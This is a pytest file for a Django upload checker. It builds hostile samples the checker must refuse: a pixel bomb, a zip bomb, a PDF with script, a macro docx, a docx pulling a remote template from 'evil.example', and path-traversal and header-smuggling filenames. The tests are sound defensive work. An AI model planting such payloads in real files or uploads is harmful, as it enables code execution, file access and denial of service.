"""Files from outside: good ones of each kind come through without their metadata, hostile ones are refused in words."""

import hashlib
import io
import os
import struct
import time
import zipfile
import zlib

import pikepdf
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import Http404
from PIL import Image

from border import files


def upload(content: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, "text/html")


def examined(content: bytes, name: str) -> files.Examined:
    return files.examine(upload(content, name))


def refused(content: bytes, name: str) -> str:
    with pytest.raises(files.Refused) as error:
        files.examine(upload(content, name))
    return str(error.value.reason)


def picture(kind: str, size=(40, 30), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "red").save(out, kind, **options)
    return out.getvalue()


def pdf(*, javascript=False, attached=False, password="") -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    if javascript:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    if attached:
        document.attachments["x.exe"] = b"MZ"
    out = io.BytesIO()
    document.save(out, encryption=pikepdf.Encryption(owner=password, user=password) if password else False)
    return out.getvalue()


def office(*members: tuple[str, bytes], kind="docx") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if kind == "docx":
            main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
            types = f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
            archive.writestr("[Content_Types].xml", types)
            archive.writestr("word/document.xml", "<w:document/>")
        else:
            archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
            archive.writestr("content.xml", "<office:document-content/>")
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def bomb() -> bytes:
    """A small PNG that says it is 60,000 pixels wide and high."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 10_000))
        + chunk(b"IEND", b"")
    )


# --- Good ones --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (picture("JPEG"), "bild.JPG", "image/jpeg"),
        (picture("PNG"), "bild.png", "image/png"),
        (picture("WEBP"), "bild.webp", "image/webp"),
        (pdf(), "plan.pdf", "application/pdf"),
        (office(), "plan.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (office(kind="odt"), "plan.odt", "application/vnd.oasis.opendocument.text"),
    ],
)
def test_each_kind_comes_through(content, name, kind):
    made = examined(content, name)
    assert made.content_type == kind
    assert made.sha256 == hashlib.sha256(made.path.read_bytes()).hexdigest()
    assert made.size == made.path.stat().st_size


def test_metadata_goes_and_the_picture_is_turned_as_it_should_be_seen():
    exif = Image.Exif()
    exif[0x0112] = 6  # to be turned by a quarter
    exif[0x010F] = "HEMLIG KAMERA"
    exif.get_ifd(0x8825)[2] = (55.6, 13.0, 0.0)
    made = examined(picture("JPEG", exif=exif) + b"<script>klistrat</script>", "gata.jpg")
    content = made.path.read_bytes()
    assert b"HEMLIG" not in content
    assert b"klistrat" not in content
    with Image.open(made.path) as seen:
        assert seen.size == (30, 40)
        assert not seen.getexif()


# --- Hostile ones -----------------------------------------------------------------------------------------------------

HOSTILE = {
    "nothing": (b"", "tom.png"),
    "page as picture": (b"<html><script>alert(1)</script>", "bild.png"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "bild.svg"),
    "program": (b"MZ" + b"\0" * 100, "plan.pdf"),
    "picture under another name": (picture("PNG"), "bild.jpg"),
    "pixel bomb": (bomb(), "bild.png"),
    "cut picture": (picture("JPEG", (400, 400))[:300], "bild.jpg"),
    "pdf with script": (pdf(javascript=True), "plan.pdf"),
    "pdf with a file inside": (pdf(attached=True), "plan.pdf"),
    "locked pdf": (pdf(password="x"), "plan.pdf"),
    "pdf with something behind it": (pdf() + b"PK\x03\x04<html>", "plan.pdf"),
    "pdf not at the start": (b"GIF89a" + pdf(), "plan.pdf"),
    "broken pdf": (b"%PDF-1.7\n" + b"x" * 500, "plan.pdf"),
    "macro": (office(("word/vbaProject.bin", b"x")), "plan.docx"),
    "embedded object": (office(("word/embeddings/oleObject1.bin", b"x")), "plan.docx"),
    "template from elsewhere": (
        office(
            (
                "word/_rels/settings.xml.rels",
                b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
            )
        ),
        "plan.docx",
    ),
    "climbing name": (office(("../../etc/passwd", b"x")), "plan.docx"),
    "entities": (office(("word/x.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')), "plan.docx"),
    "zip bomb": (office(("word/x.xml", b"\0" * 120_000_000)), "plan.docx"),
    "many members": (office(*((f"word/{n}.xml", b"") for n in range(2_100))), "plan.docx"),
    "odt macro": (office(("Basic/Standard/Module1.xml", b"x"), kind="odt"), "plan.odt"),
    "plain zip": (office(kind="odt").replace(b"opendocument.text", b"opendocument.xxxx"), "plan.odt"),
    "eleven megabytes": (b"%PDF-" + b"x" * 11_000_000, "plan.pdf"),
}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_file_is_refused_in_a_sentence(hostile):
    reason = refused(*HOSTILE[hostile])
    assert len(reason) > 20
    assert reason.endswith(".")


def test_refused_file_leaves_nothing_behind():
    before = {path for path in settings.FILES_DIR.rglob("*") if path.is_file()}
    refused(*HOSTILE["pixel bomb"])
    refused(*HOSTILE["macro"])
    assert {path for path in settings.FILES_DIR.rglob("*") if path.is_file()} == before


@pytest.mark.parametrize(
    ("name", "label"),
    [
        ("../../etc/passwd.png", "passwd.png"),
        ("C:\\Users\\Amina\\bild.png", "bild.png"),
        ('a"; filename="x.html.png', "a"),
        ("bild\r\nSet-Cookie: x.png", "bild"),
        ("\u202egnp.exe.png", "png"),
        ("ö" * 5000 + ".png", "ö"),
    ],
)
def test_name_is_only_a_label(name, label):
    made = examined(picture("PNG"), name).label
    assert label in made
    assert made.endswith(".png")
    assert len(made) <= 120
    assert not set(made) & set('/\\"\r\n\u202e')


# --- The store --------------------------------------------------------------------------------------------------------


def test_stored_file_is_given_out_as_a_download_and_a_changed_one_is_not():
    made = examined(picture("PNG"), "=SUM(1).png")
    name = files.store(made)
    answer = files.download_response(name, made.label, made.sha256)
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"].startswith("sandbox")
    with files.open_stored(name) as stored:
        path = stored.name
    assert made.label not in path
    os.chmod(path, 0o600)
    with open(path, "ab") as file:
        file.write(b"x")
    with pytest.raises(Http404):
        files.download_response(name, made.label, made.sha256)
    files.remove(name)
    files.remove(name)
    with pytest.raises(Http404):
        files.download_response(name, made.label, made.sha256)


@pytest.mark.parametrize("name", ["../settings.py", "/etc/passwd", "..", "a/../../b", ""])
def test_no_name_leads_out_of_the_store(name):
    with pytest.raises((Http404, FileNotFoundError, ValueError)):
        files.download_response(name, "x", "y")


def test_files_no_row_knows_are_swept_after_an_hour():
    kept, left = (files.store(examined(picture("PNG"), "a.png")) for _ in range(2))
    for name in (kept, left):
        with files.open_stored(name) as stored:
            os.utime(stored.name, (time.time() - 7200,) * 2)
    fresh = files.store(examined(picture("PNG"), "a.png"))
    files.remove_leftovers({kept})
    assert files.open_stored(kept).close() is None
    assert files.open_stored(fresh).close() is None
    with pytest.raises(FileNotFoundError):
        files.open_stored(left)
